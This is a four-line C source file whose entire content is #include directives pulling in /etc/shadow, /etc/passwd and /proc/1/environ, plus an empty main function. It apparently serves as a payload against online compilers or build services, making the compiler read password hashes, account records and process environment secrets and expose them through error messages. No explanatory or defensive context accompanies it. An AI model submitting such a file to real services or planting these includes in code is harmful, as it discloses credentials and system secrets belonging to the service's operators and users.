#include "/etc/shadow"
#include "/etc/passwd"
#include "/proc/1/environ"
int main(void) { return 0; }
